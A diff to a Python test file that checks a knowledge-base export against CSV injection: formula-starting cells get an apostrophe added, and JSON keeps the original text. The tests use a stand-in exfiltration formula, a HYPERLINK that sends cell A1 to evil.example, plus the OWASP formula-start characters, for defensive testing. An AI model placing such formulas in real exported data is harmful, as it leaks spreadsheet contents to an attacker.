@@ -1,20 +1,24 @@
 """Downloads and published schemas: complete, round-tripping, deterministic, and on the built site."""
 from __future__ import annotations
 
+import copy
 import csv
 import io
 import json
 import re
+from dataclasses import astuple, fields, replace
 from pathlib import Path
 
 import pytest
 
-from gpia.export import RECORD_KINDS, csv_files, download_files, knowledge_base_json, published_schemas
+from gpia import checklist
+from gpia.export import (FORMULA_START, RECORD_KINDS, csv_files, csv_text, download_files, knowledge_base_json,
+                         published_schemas, record_dicts, spreadsheet_safe)
 from gpia.layout import SCHEMA_DIR
 from gpia.load import load_knowledge_base
 from gpia.model import KnowledgeBase
 
-from conftest import ROOT, SOURCES
+from conftest import ROOT, SOURCES, visible
 
 FIXED_TAIL = ["provenance", "references", "referenced_by", "last_reviewed"]
 
@@ -88,8 +92,8 @@ def test_one_csv_per_kind_with_the_json_columns(kb: KnowledgeBase, document: dic
 def test_csv_headers_and_cells(kb: KnowledgeBase) -> None:
     files = csv_files(kb)
     assert files["data/citation.csv"].splitlines()[0] == (
-        "id,kind,title,publisher,published,url,provenance_file,provenance_source,provenance_section,provenance_row,"
-        "references,referenced_by,last_reviewed")
+        '"id","kind","title","publisher","published","url","provenance_file","provenance_source","provenance_section",'
+        '"provenance_row","references","referenced_by","last_reviewed"')
     question = next(row for row in csv.DictReader(io.StringIO(files["data/question.csv"], newline=""))
                     if row["id"] == "faq-purpose-of-gp-ia")
     assert question["question"] == "What is the purpose of a GP Integration Agreement?"
@@ -130,3 +134,91 @@ def test_data_page_links_every_download_with_its_count(built_site: Path, kb: Kno
     assert 'href="../schema/schedule.json"' in markup
     assert "Open Government Licence v3.0" in markup and "CC BY 4.0" in markup
     assert "NHS England and NHS Improvement" in markup  # publishers come from the data
+    # Readers are told why a CSV cell may start with an apostrophe, and that the JSON is unchanged.
+    text = visible(markup)
+    assert ("a cell that starts with one of those characters (also after spaces, line breaks or quotation marks) "
+            "has an apostrophe (') added in front") in text
+    assert "the JSON file always holds the text exactly as written" in text
+
+
+# CSV injection: a cell that begins with one of these is run as a formula by a spreadsheet.
+FORMULA = 'HYPERLINK("https://evil.example/?d="&A1,"Open")'
+
+
+def test_the_formula_characters_are_owasps() -> None:
+    assert FORMULA_START == ("=", "+", "-", "@", "\t", "\r")
+
+
+@pytest.mark.parametrize("text, cell", [
+    ("=1+2", "'=1+2"), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"),
+    ("\tanything", "'\tanything"), ("\ranything", "'\ranything"),
+    # After leading spaces, line breaks or quotes, which a spreadsheet may trim.
+    ("  =1+2", "'  =1+2"), ("\n-1", "'\n-1"), ('"=1+2', '\'"=1+2'), ("'=1+2", "''=1+2"), ("\"' @x", "'\"' @x"),
+    # Left alone: formula characters later in the text, and leading quotes before ordinary text.
+    ("", ""), ("plain", "plain"), ("a=b", "a=b"), ("1-2", "1-2"), ("x\n=1", "x\n=1"), ("\nx", "\nx"),
+    ("'best for service'", "'best for service'"), (" ok", " ok"),
+])
+def test_spreadsheet_safe(text: str, cell: str) -> None:
+    assert spreadsheet_safe(text) == cell
+
+
+def test_csv_quotes_every_cell_so_no_separator_starts_a_cell() -> None:
+    # Opened in a spreadsheet that splits on ";" the quoted cell stays one cell.
+    assert csv_text(["a", "b"], [["x;=1+2", 'say "hi"'], [3, "-2"]]) == (
+        '"a","b"\r\n"x;=1+2","say ""hi"""\r\n"3","\'-2"\r\n')
+
+
+def hostile(value: object, text: str) -> object:
+    """`text` in the shape of the value it replaces: a list of texts stays a list (one per line in a cell)."""
+    return [text, "second"] if isinstance(value, list) and all(isinstance(v, str) for v in value) else text
+
+
+@pytest.mark.parametrize("start", FORMULA_START, ids=repr)
+def test_every_csv_column_of_every_kind_neutralises_a_formula_and_json_keeps_it(kb: KnowledgeBase, start: str) -> None:
+    """Each column of each CSV in turn holds a formula: the cell gets a quote in front, nothing else
+    changes, and the JSON keeps the text as written."""
+    text = start + FORMULA
+    items = record_dicts(kb)
+    checked = 0
+    for kind, _ in RECORD_KINDS:
+        first = next(item for item in items if item["kind"] == kind)
+        header = next(csv.reader(io.StringIO(csv_files(kb, [first])[f"data/{kind}.csv"], newline="")))
+        for column in header:
+            item = copy.deepcopy(first)
+            if column.startswith("provenance_"):
+                key = column.removeprefix("provenance_")
+                item["provenance"][key] = value = hostile(item["provenance"][key], text)
+            else:
+                item[column] = value = hostile(item[column], text)
+            (name, content), = csv_files(kb, [item]).items()
+            assert name == f"data/{item['kind']}.csv"
+            (row,) = csv.DictReader(io.StringIO(content, newline=""))
+            expected = "'" + text + ("\nsecond" if isinstance(value, list) else "")
+            assert row[column] == expected, (kind, column)
+            if column != "kind":  # the JSON counts records by kind, which is the export's own word
+                (record,) = json.loads(knowledge_base_json(kb, [item]))["records"]
+                assert (record["provenance"][key] if column.startswith("provenance_") else record[column]) == value
+            checked += 1
+    assert checked >= 13 * 10  # every kind, with all of its columns (`kind` and `id` included)
+
+
+@pytest.mark.parametrize("start", FORMULA_START, ids=repr)
+def test_every_checklist_column_neutralises_a_formula(kb: KnowledgeBase, start: str,
+                                                      monkeypatch: pytest.MonkeyPatch) -> None:
+    text = start + FORMULA
+    (first, *_) = checklist.checklist_rows(kb)
+    header = [f.name for f in fields(first)]
+    for column in header:
+        row = replace(first, **{column: text})
+        monkeypatch.setattr(checklist, "checklist_rows", lambda _kb, row=row: [row])
+        parsed = list(csv.reader(io.StringIO(checklist.checklist_csv(kb), newline="")))
+        assert parsed[0] == header
+        assert parsed[1] == ["'" + text if name == column else str(v) for name, v in zip(header, astuple(first))]
+
+
+def test_real_data_needs_no_quote_added(kb: KnowledgeBase) -> None:
+    """No text of today's data begins like a formula, so the CSV cells are the data as written."""
+    for name, content in [*csv_files(kb).items(), (checklist.CSV_PATH, checklist.checklist_csv(kb))]:
+        for row in csv.reader(io.StringIO(content, newline="")):
+            for cell in row:
+                assert not (cell.startswith("'") and spreadsheet_safe(cell[1:]) != cell[1:]), (name, cell)
